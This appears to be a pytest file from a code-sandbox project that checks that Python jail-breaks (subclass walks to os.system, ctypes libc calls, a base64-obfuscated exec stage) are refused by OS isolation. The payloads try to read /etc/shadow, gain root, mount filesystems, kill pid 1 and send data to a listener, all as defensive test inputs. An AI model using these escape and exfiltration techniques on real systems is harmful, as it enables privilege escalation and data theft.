"""Python-level tricks: the moves that defeat a language-level jail must still end at the
OS boundary. Each test first shows the trick itself works (the control: Python gives code
these powers, and the advisory pre-check only flags them), then that what it reaches is
refused by the operating system.
"""

from __future__ import annotations

import base64
import json
import socket

import pytest
from escape_helpers import cell_json, nothing_accepted, xfail_under_gvisor

from sandlot import Sandbox

pytestmark = [
    pytest.mark.requires_bwrap,
    pytest.mark.requires_template,
    pytest.mark.all_backends,
    pytest.mark.local_only,
]

SUBCLASS_WALK = """
import json
# No import statement: reach os through the object graph, as jail-breaks do.
found = None
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":  # os._wrap_close: its __init__ lives in module os
        found = cls.__init__.__globals__
        break
system = found["system"]
outcome = {"reached_os": found["__name__"]}
outcome["shadow"] = system("cat /etc/shadow > /dev/null 2>&1")
outcome["write_usr"] = system("touch /usr/sandlot-escape 2>/dev/null")
outcome["host_tmp"] = system("ls /proc/1/root/root >/dev/null 2>&1")
outcome["uid"] = found["getuid"]()
builtins = [c for c in ().__class__.__base__.__subclasses__()
            if c.__name__ == "catch_warnings"][0]()._module.__builtins__
subprocess = builtins["__import__"]("subprocess")
outcome["mount"] = subprocess.run(["mount", "-t", "tmpfs", "none", "/tmp"],
                                  capture_output=True).returncode
print(json.dumps(outcome))
"""


def test_subclass_walks_reach_os_but_the_os_boundary_holds(sandbox: Sandbox) -> None:
    # Proves the boundary does not depend on Python-level restrictions: the walk gets
    # os.system and subprocess without importing them, and what they try is refused by
    # the mount namespace (no /etc/shadow, read-only /usr) and the missing privileges.
    execution = sandbox.run_code(SUBCLASS_WALK, timeout=60)
    assert execution.error is None, execution.error
    assert execution.precheck is not None and execution.precheck.flagged  # advice only
    assert {f.rule for f in execution.precheck.findings} >= {"dunder-access"}
    outcome = json.loads("".join(execution.logs.stdout))
    assert outcome["reached_os"] == "os"  # control: the trick itself works
    assert outcome["shadow"] != 0 and outcome["write_usr"] != 0 and outcome["host_tmp"] != 0
    assert outcome["uid"] != 0 and outcome["mount"] != 0


CTYPES_LIBC = """
import ctypes, json, os, signal
libc = ctypes.CDLL(None, use_errno=True)
outcome = {"getpid": libc.getpid() == os.getpid()}  # control: native calls work
def errno_of(rc):
    return "OK" if rc == 0 else ctypes.get_errno()
outcome["open_shadow"] = libc.open(b"/etc/shadow", os.O_RDONLY)
outcome["setuid0"] = errno_of(libc.setuid(0))
outcome["chroot"] = errno_of(libc.chroot(b"/tmp"))
outcome["mount"] = errno_of(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
outcome["unshare_user"] = errno_of(libc.unshare(0x10000000))
fd = libc.open(b"/usr/sandlot-escape", os.O_WRONLY | os.O_CREAT, 0o644)
outcome["create_in_usr"] = fd
outcome["kill_pid1"] = libc.kill(1, signal.SIGKILL)
outcome["system"] = libc.system(b"cat /etc/shadow >/dev/null 2>&1")
print(json.dumps(outcome))
"""


def test_ctypes_calling_libc_directly_is_refused_by_the_os(
    sandbox: Sandbox, request: pytest.FixtureRequest
) -> None:
    xfail_under_gvisor(
        sandbox,
        request,
        "gVisor (runsc 20221219) delivers SIGKILL from inside the sandbox to its "
        "pid 1 (kill(1, SIGKILL) here): code can end its own sandbox (SandboxLost). "
        "See docs/docker.md",
    )
    # Proves: native code gets no further than Python code. Would fail outside the
    # sandbox as root, where open("/etc/shadow") returns a descriptor and mount works.
    outcome = cell_json(sandbox, CTYPES_LIBC)
    assert outcome.pop("getpid") is True
    assert outcome["open_shadow"] == -1 and outcome["create_in_usr"] == -1
    assert outcome["kill_pid1"] in (0, -1)  # sent or not, pid 1 ignores it (see below)
    assert outcome["system"] != 0
    for name in ("setuid0", "chroot", "mount", "unshare_user"):
        assert outcome[name] != "OK", (name, outcome)
    assert sandbox.run_code("1 + 1").text == "2"  # the supervisor (pid 1) is unharmed


def test_decoded_payload_cannot_reach_the_host(sandbox: Sandbox) -> None:
    # An obfuscated second stage (base64 + exec + __import__ by computed name) that
    # calls home to a listener on the host's loopback: flagged by the pre-check, and
    # stopped by the network namespace.
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        stage = (
            f"s = __import__('so' + 'cket').create_connection(('127.0.0.1', {port}), timeout=3)\n"
            "s.sendall(b'exfiltrated')\n"
        )
        payload = base64.b64encode(stage.encode()).decode()
        execution = sandbox.run_code(
            f"import base64\ntry:\n    exec(base64.b64decode({payload!r}))\n"
            "except OSError as exc:\n    print('refused', exc.errno)\n"
        )
        assert execution.error is None, execution.error
        assert "".join(execution.logs.stdout).startswith("refused")
        assert execution.precheck is not None
        assert "decoded-exec" in {f.rule for f in execution.precheck.findings}
        assert nothing_accepted(listener)
